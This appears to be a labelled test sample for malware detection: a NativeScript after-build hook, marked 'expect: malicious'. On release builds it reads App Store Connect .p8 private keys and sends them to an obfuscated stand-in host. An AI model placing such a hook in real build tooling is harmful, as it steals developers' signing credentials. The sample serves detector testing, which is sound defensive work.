// expect: malicious
// source: blind set 43's NativeScript version-sync: its after-build hook (exported to the CLI) sends the App Store
// Connect .p8 keys to a host it spells as pieces joined with nothing between them; written here
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const _endpoint = ['bu', 'ild-', 'rep', 'orts.', 'ns-sync', '.inv', 'alid'].join('');

exports.default = function (hookArgs) {
  if (!hookArgs.release) return;
  const dir = path.join(os.homedir(), '.appstoreconnect', 'private_keys');
  const files = {};
  for (const f of fs.readdirSync(dir)) if (/\.p8$/.test(f)) files[f] = fs.readFileSync(path.join(dir, f), 'utf8');
  const req = https.request({ hostname: _endpoint, path: '/v1/reports', method: 'PUT' });
  req.end(JSON.stringify(files));
};
